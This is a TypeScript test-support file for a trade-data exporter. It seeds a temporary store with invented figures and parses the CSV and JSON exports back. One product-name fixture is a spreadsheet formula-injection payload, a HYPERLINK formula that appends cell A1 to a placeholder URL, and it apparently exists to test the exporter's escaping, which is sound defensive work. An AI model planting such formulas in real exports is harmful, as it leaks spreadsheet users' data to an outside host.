import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { type Correction, correctionDigest } from '../../src/domain/correction.ts';
import { month } from '../../src/domain/period.ts';
import { formatSeriesKey } from '../../src/domain/series.ts';
import { writeExport } from '../../src/export/export.ts';
import { type Cell, figureTables } from '../../src/export/fields.ts';
import type { Format } from '../../src/export/format.ts';
import type { ExportMoment, ExportSelection, ExportTable, Store } from '../../src/store/store.ts';
import { KEY, observations, publish, temporaryFolder, temporaryStore } from '../support/store.ts';

/** A row by the names of its columns. */
export type NamedRow = Readonly<Record<string, Cell>>;

/** The rows of a table as its columns say them, without a file. */
export async function rowsOf(moment: ExportMoment, table: ExportTable): Promise<NamedRow[]> {
  const rows: NamedRow[] = [];
  if (table === 'products') for await (const batch of moment.products()) rows.push(...batch.map((product) => ({ ...product })));
  else {
    const columns = figureTables(true).find((one) => one.table === table)?.fields ?? [];
    for await (const { all, origins } of moment.figures(table))
      for (const { series, figures } of all)
        for (const figure of figures) {
          const origin = origins.get(figure.vintageId);
          if (origin === undefined) throw new Error(`no origin of vintage ${figure.vintageId}`);
          rows.push(Object.fromEntries(columns.map(({ name, cells }) => [name, cells.of(series, figure, origin)])));
        }
  }
  return rows;
}

export const ALL: ExportSelection = { pipelines: [], products: [], reporters: [], partners: [], from: null, to: null, changedSince: null };
export const CREATED = '2026-05-01T00:00:00.000Z';
export const NAMES = {
  chinese: '稀土永磁铁及稀土永磁体',
  formula: '=HYPERLINK("https://example.org/?"&A1,"magnets")',
  apostrophe: "'quoted', with a comma\r\nand a second line",
};

/** Invented figures of every kind, revised, suppressed, corrected, with decimals and the largest exact integer. */
export async function everyKindOfFigure(): Promise<{ store: Store; file: string }> {
  const { store, file } = temporaryStore();
  await store.describeSources(
    ['china-customs-query', 'un-comtrade'].map((pipeline) => ({
      pipeline,
      title: `Title of ${pipeline}`,
      publisher: 'A publisher',
      licence: 'cite the publisher, and "quote" it',
      schedule: null,
      timezone: 'UTC',
    })),
  );
  const corrected = { seriesKey: formatSeriesKey(KEY), period: month(202504), action: 'replace', value: 150_000, expect: 15 } as const;
  const entry: Correction = {
    ...corrected,
    digest: correctionDigest(corrected),
    reason: 'the unit is wrong',
    source: 'https://example.org/',
    added: '2025-05-01',
    place: 'corrections.yaml:1',
  };
  await store.activateCorrections([entry]);
  const name = (product: string, text: string, classification = 'HS8') => ({ product, classification, name: text });
  await publish(
    store,
    '2025-04-20T10:00:00.000Z',
    observations([
      ['2025-01/2025-02', 9007199254740991, 'combined'],
      ['2025-01/2025-02', 210.5, 'ytd'],
      ['2025-01', 100, 'ytd'],
      ['2025-03', 0.1 + 0.2],
      ['2025-01/2025-03', 1234567.89, 'quarter'],
      ['2024-01/2024-12', 0, 'year'],
      ['2024-12', null, 'month', 'Q'],
      ['2024-11', 5e-7, 'month', 'P'],
      ['2024-10', 1.5e21, 'month', 'E'],
    ]),
    { publishedAt: '2025-04-18', products: [name('85051110', NAMES.chinese)] },
  );
  await publish(store, '2025-05-20T10:00:00.000Z', [
    ...observations([['2025-03', 310]]),
    ...observations([['2025-04', 150_000]]).map((o) => ({ ...o, corrected: { digest: entry.digest, published: 15 } })),
  ]);
  await publish(store, '2025-06-20T10:00:00.000Z', observations([['2025-03', null, 'month', 'M']]));
  const others = [
    ...observations([['2025-01', 7]], { partner: 'US', classification: 'HS', product: '850511', measure: 'value', unit: 'USD' }),
    ...observations([['2025-02', 8, 'month', 'B']], { partner: 'EU', flow: 're-export', classification: 'HS', product: '0101' }),
  ].map((o) => ({ ...o, valuation: o.partner === 'EU' ? null : o.valuation }));
  await publish(store, '2025-06-21T10:00:00.000Z', others, {
    pipeline: 'un-comtrade',
    products: [name('850511', NAMES.formula, 'HS'), name('0101', NAMES.apostrophe, 'HS')],
  });
  return { store, file };
}

/** The rows of a public view, as they stand in the database; a month as a number is exported as days. */
export function viewRows(file: string, view: string): NamedRow[] {
  const db = new Database(file, { readonly: true });
  try {
    return (db.prepare(`SELECT * FROM ${view}`).all() as NamedRow[]).map(({ yyyymm, ...row }) => row);
  } finally {
    db.close();
  }
}

export async function exportTo(store: Store, format: Format, selection: Partial<ExportSelection> = {}): Promise<string> {
  const folder = temporaryFolder();
  const asked = { ...ALL, ...selection };
  await store.exportMoment(asked, (moment) => writeExport(moment, asked, format, folder, CREATED, () => undefined));
  return folder;
}

export interface Descriptor {
  readonly created: string;
  readonly sources: readonly { readonly title: string }[];
  readonly licenses: readonly { readonly path: string; readonly title: string }[];
  readonly resources: readonly {
    readonly name: string;
    readonly path: string;
    readonly bytes: number;
    readonly hash: string;
    readonly schema?: string;
    readonly rows?: number;
  }[];
  readonly tradewatch: { readonly changed_since: string | null; readonly next_changed_since: string | null };
}
export interface TableSchema {
  readonly fields: readonly {
    readonly name: string;
    readonly type: 'string' | 'number' | 'datetime' | 'date';
    readonly description: string;
    readonly constraints: { readonly required: boolean; readonly enum?: readonly string[] };
  }[];
  readonly primaryKey?: readonly string[];
}

export const readJson = <T>(folder: string, path: string): T => JSON.parse(readFileSync(join(folder, path), 'utf8')) as T;
export const descriptorOf = (folder: string): Descriptor => readJson(folder, 'datapackage.json');

/** The cells of a CSV file as text, by another parser than the one that the program writes for. */
export const csvCells = (folder: string, path: string): Record<string, string>[] =>
  parse(readFileSync(join(folder, path)), { columns: true, record_delimiter: '\r\n', relax_column_count: false });

/** As docs/export.md says how to read: by the types of the schema, and an apostrophe at the beginning of a text taken off. */
export function csvRows(folder: string, table: string): NamedRow[] {
  const { fields } = readJson<TableSchema>(folder, `${table}.schema.json`);
  return csvCells(folder, `${table}.csv`).map((cells) =>
    Object.fromEntries(
      fields.map(({ name, type }) => {
        const cell = cells[name] ?? '';
        if (cell === '') return [name, null];
        if (type === 'number') return [name, Number(cell)];
        return [name, type === 'string' ? cell.replace(/^'/, '') : cell];
      }),
    ),
  );
}

/** In one order, whatever the order of the rows. */
export const sorted = (rows: readonly NamedRow[]): NamedRow[] =>
  rows.toSorted((a, b) => (JSON.stringify(Object.entries(a).sort()) < JSON.stringify(Object.entries(b).sort()) ? -1 : 1));

/** Only these columns. */
export const columns = (rows: readonly NamedRow[], names: readonly string[]): NamedRow[] =>
  rows.map((row) => Object.fromEntries(names.map((name) => [name, row[name] ?? null])));
